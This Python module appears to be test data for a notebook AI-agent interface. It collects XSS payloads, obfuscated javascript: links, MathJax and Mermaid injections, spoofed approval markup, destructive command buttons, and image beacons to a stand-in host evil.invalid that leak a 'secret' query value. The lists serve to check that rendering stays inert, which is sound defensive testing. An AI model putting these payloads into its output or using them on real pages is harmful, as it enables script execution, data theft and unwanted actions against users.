"""What a hostile model, column or title may say: markup, Markdown, mathematics and addresses that ought to do nothing."""

from __future__ import annotations

EVIL = "https://evil.invalid"
RAW = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 2'>",
    f"<img src='{EVIL}/i.png'>",
    f'<img srcset="{EVIL}/s.png 1x" alt="a">',
    f"<picture><source srcset='{EVIL}/p.png'><img src='data:,'></picture>",
    "<svg onload='window.pwned = 3'><circle r=9></svg>",
    f"<svg><image href='{EVIL}/v.png' /></svg>",
    f"<svg><use xlink:href='{EVIL}/u.svg#x' /></svg>",
    f"<svg><style>@import '{EVIL}/c.css';</style></svg>",
    f"<style>body {{ background: url({EVIL}/b.png) }}</style>",
    f"<link rel=stylesheet href={EVIL}/l.css>",
    f"<link rel=prefetch href={EVIL}/f>",
    f"<iframe src={EVIL}></iframe>",
    "<iframe srcdoc='<script>parent.pwned = 4</script>'></iframe>",
    f"<object data={EVIL}/o></object>",
    f"<embed src={EVIL}/e>",
    f"<video src={EVIL}/v autoplay></video>",
    f"<audio src={EVIL}/a autoplay></audio>",
    f"<video poster={EVIL}/poster.png></video>",
    f"<form action={EVIL}><button>Run</button></form>",
    f"<form id=f action={EVIL}></form><input form=f type=submit value=Run>",
    f"<base href={EVIL}>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "<details open ontoggle='window.pwned = 5'>x</details>",
    "<body onpageshow='window.pwned = 6'>",
    "<marquee onstart='window.pwned = 7'>x</marquee>",
    "<input autofocus onfocus='window.pwned = 8'>",
    "<math><mtext><table><mglyph><style><img src=x onerror='window.pwned = 9'></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=10>'></noscript>",
    "<template><img src=x onerror='window.pwned = 11'></template>",
    "<button data-commandlinker-command='notebook:delete-cell' data-commandlinker-args='{}'>Run</button>",
    "<a href='#' data-commandlinker-command='apputils:reset'>here</a>",
    f"<div style='background: url({EVIL}/d.png); position: fixed; inset: 0'>x</div>",
    "<p class='jp-agent-approval'>Run code?</p>",
    "<form name=cookie></form><img name=body><a id=jupyter-agent-sidebar>x</a>",
    f"<a ping={EVIL}/ping href=https://ok.invalid>x</a>",
    f"<table background={EVIL}/t.png><tr><td>x</td></tr></table>",
    "<xmp><script>window.pwned = 12</script></xmp>",
    "<![CDATA[<script>window.pwned = 13</script>]]>",
    "<!--><img src=x onerror=window.pwned=14>-->",
    "<img/src=x/onerror=window.pwned=15>",
    "<IMG SRC=x OnErRoR=window.pwned=16>",
    "<details><summary><b>x</b></summary><img src=x onerror=window.pwned=17></details>",
]
MARKDOWN = [
    f"![pixel]({EVIL}/p.png?d=secret)",
    f"![pixel][ref]\n\n[ref]: {EVIL}/r.png",
    f"[![badge]({EVIL}/badge.svg)]({EVIL})",
    "![local](files/../api/contents?delete)",
    "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)",
    "[click](javascript:window.pwned=20)",
    "[click](JaVaScRiPt:window.pwned=21)",
    "[click](java&#10;script:window.pwned=22)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:window.pwned=23)",
    "[click](//evil.invalid/x)",
    "[click](/api/shutdown)",
    "<javascript:window.pwned=24>",
    f"$\\href{{javascript:window.pwned=25}}{{x}}$ and $$\\style{{background:url({EVIL}/m.png)}}{{y}}$$",
    f"$\\require{{html}}\\class{{jp-agent-approval}}{{x}} \\cssId{{f}}{{y}} \\bbox[background:url({EVIL}/bb.png)]{{z}}$",
    f'$\\mmlToken{{mi}}[style="background:url({EVIL}/mml.png)"]{{x}}$',
    "$<img src=x onerror=window.pwned=26>$",
    f"```mermaid\ngraph TD\nA[<img src='{EVIL}/mm.png'>] --> B\nclick A href \"{EVIL}\"\n```",
    f"~~~~ mermaid\ngraph TD\nA[<img src='{EVIL}/m2.png'>]\n~~~~",
    f'```mermaid\u00a0\nflowchart TD\nA@{{ img: "{EVIL}/m3.png", label: "x", w: 60, h: 60 }}\n```',
    f'> ```\u3000Mermaid\f\n> flowchart TD\n> A@{{ img: "{EVIL}/m4.png", w: 60, h: 60 }}\n> ```',
    f'~~~\ufeffmermaid\v\nflowchart TD\nA@{{ img: "{EVIL}/m5.png", w: 60, h: 60 }}\n~~~',
    f'```mermaid\rflowchart TD\rA@{{ img: "{EVIL}/m6.png", w: 60, h: 60 }}\r```',
    "```html\n<script>window.pwned = 27</script>\n<img src=x onerror=window.pwned=28>\n```",
    '```"><img src=x onerror=window.pwned=29>\ncode\n```',
    "`<img src=x onerror=window.pwned=30>` and ``<script>window.pwned=31</script>``",
    "| <img src=x onerror=window.pwned=32> |\n|---|\n| <script>window.pwned=33</script> |",
    "# <img src=x onerror=window.pwned=34>\n\n- <svg/onload=window.pwned=35>\n  > <iframe src=javascript:window.pwned=36>",
    f"- [x] task <input onfocus=window.pwned=37 autofocus>\n- ![t]({EVIL}/task.png)",
    f"[^1]\n\n[^1]: ![foot]({EVIL}/foot.png)",
    f"\\<img src=x onerror=window.pwned=38> \\`<img src={EVIL}/tick.png>`",
    "`unclosed <img src=x onerror=window.pwned=39>\n\nnext <img src=x onerror=window.pwned=40>`",
    "    <img src=x onerror=window.pwned=41>\n\n<b>bold?</b>",
]
_EVENT_NAMES = (
    "onabort onanimationstart onauxclick onbeforeinput onblur oncanplay onclick oncontextmenu oncopy "
    "oncuechange ondblclick ondrag ondurationchange onended onerror onfocusin onformdata onhashchange oninput "
    "oninvalid onkeydown onload onloadstart onmessage onmouseenter onmouseover onpageshow onpaste onplay "
    "onpointerenter onpointermove onresize onscroll onsecuritypolicyviolation onselect onslotchange onsubmit "
    "ontoggle ontransitionend onwheel"
)
_EVENTS = _EVENT_NAMES.split()
_TAGS = (
    "a href=#",
    "img src=x",
    "svg",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "details open",
    "p",
    "td",
    "math",
)
#: Every handler that elements may have, on an element of every kind in turn.
HANDLERS = [
    f"<{_TAGS[number % len(_TAGS)]} {event}=window.pwned={100 + number} style=animation-name:x tabindex=1>hello"
    for number, event in enumerate(_EVENTS)
]
#: Ways to write the address of a script, as a link of Markdown.
ADDRESSES = [
    f"[go]({address})"
    for address in (
        "javascript:window.pwned=200",
        "JAVASCRIPT:window.pwned=201",
        "java%0ascript:window.pwned=202",
        "&#106;avascript:window.pwned=203",
        "&#x6A;&#x61;vascript:window.pwned=204",
        "javascript&colon;window.pwned=205",
        "javascript&#58;window.pwned=206",
        "\\x01javascript:window.pwned=207",
        "data:text/html,<script>parent.pwned=208</script>",
        "data:image/svg+xml,<svg/onload=parent.pwned=209>",
        "blob:https://evil.invalid/1",
        "filesystem:https://evil.invalid/1",
        "file:///etc/passwd",
        "view-source:https://evil.invalid",
        "feed:javascript:window.pwned=210",
        "jar:https://evil.invalid!/",
        "ws://evil.invalid/s",
        "../../api/shutdown",
        "?token=1",
        "#jp-main-dock-panel",
    )
]
#: Ways to have a picture fetched.
PICTURES = [
    f"![p]({EVIL}/1.png 'title')",
    f"![p](<{EVIL}/2.png>)",
    "![p](//evil.invalid/3.png)",
    "![p](\\\\evil.invalid/4.png)",
    f"![p]({EVIL}/5.png#a=b)\n{{: .x}}",
    f"![![in]({EVIL}/6.png)]({EVIL}/7.png)",
    f"[![x](data:image/svg;base64,AAAA)]({EVIL}/8)",
    f"![p](attachment:{EVIL}/9.png)",
    "![p](data:text/html;base64,PHNjcmlwdD4=)",
    f"| ![p]({EVIL}/10.png) |\n|---|\n| ![q]({EVIL}/11.png) |",
    f"> - ![p]({EVIL}/12.png)",
    f"$$\\includegraphics{{{EVIL}/13.png}}$$",
    f"$\\unicode[x;background:url({EVIL}/14.png)]{{x}}$",
    f"$\\htmlStyle{{background:url({EVIL}/15.png)}}{{x}}$ $\\htmlClass{{jp-agent-approval}}{{x}}$ $\\htmlId{{f}}{{x}}$",
]
#: What a column, a title or a question may be called; shown as text wherever it is shown.
NAMES = [
    "<img src=x onerror=window.pwned=300>",
    f"<img src={EVIL}/name.png>",
    "<svg/onload=window.pwned=301>",
    '"><script>window.pwned=302</script>',
    "javascript:window.pwned=303",
    f"![x]({EVIL}/name2.png)",
    "`</code><script>window.pwned=304</script>",
    "<b>bold</b> \u202eesrever",
]
#: In answers of several each.
ANSWERS = [RAW[start : start + 12] for start in range(0, len(RAW), 12)]
ANSWERS += [MARKDOWN[start : start + 8] for start in range(0, len(MARKDOWN), 8)]
ANSWERS += [HANDLERS, ADDRESSES, PICTURES]
